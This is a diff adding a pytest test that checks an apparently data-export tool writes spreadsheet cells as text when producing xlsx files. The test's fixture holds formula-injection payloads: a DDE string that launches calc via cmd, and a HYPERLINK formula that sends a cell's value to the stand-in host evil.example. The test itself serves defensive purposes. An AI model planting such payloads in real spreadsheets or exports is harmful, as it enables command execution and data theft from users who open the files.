@@ -156,3 +156,38 @@ def test_run_input_default_entity_translate_drop_foreign_keys(ws, tmp_path):
     site = pd.read_csv(out / "site.csv")
     assert list(site.columns) == ["system_id", "site_id", "kind_id", "name_of_site", "site"]
     assert (out / "survey.csv").exists()
+
+
+HOSTILE_CONFIG = """
+entities:
+  "=cmd|' /C calc'!A0":
+    type: csv
+    options: {filename: notes.csv, dtype: str, keep_default_na: false}
+    columns: ["id", "text", '=HYPERLINK("http://evil.example/?x="&A2,"x")']
+  "a/b":
+    source: "=cmd|' /C calc'!A0"
+    columns: [id]
+"""
+
+
+def test_run_xlsx_writes_text_as_text_and_cuts_cells_excel_cannot_hold(ws, tmp_path, capsys):
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http://evil.example/?x="&A2,"x")'
+    header = '"' + formula.replace('"', '""') + '"'
+    ws.write("notes.csv", f"id,text,{header}\n1,{'a' * 40_000},=1+1\n2,#N/A,bell \x07 rings\n")
+    out = tmp_path / "out"
+
+    assert main(["run", str(ws.config(HOSTILE_CONFIG)), "--out", str(out), "--format", "xlsx"]) == 0
+
+    workbook = load_workbook(out / "config.xlsx")
+    assert [sheet.title for sheet in workbook.worksheets] == ["=cmd|' _C calc'!A0", "a_b"]
+    formulas = [c.coordinate for s in workbook for row in s.iter_rows() for c in row if c.data_type in "fe"]
+    assert formulas == []
+    rows = list(workbook.worksheets[0].iter_rows(values_only=True))
+    first, second = (dict(zip(rows[0], row, strict=True)) for row in rows[1:])
+    assert sorted(rows[0]) == sorted(["id", "text", formula])
+    assert (first[formula], second["text"], second[formula]) == ("=1+1", "#N/A", "bell  rings")
+    assert len(first["text"]) == 32_767
+    assert first["text"].endswith("… [truncated: 40,000 characters]")
+    assert "1 cell cut to Excel's 32,767 characters" in capsys.readouterr().out
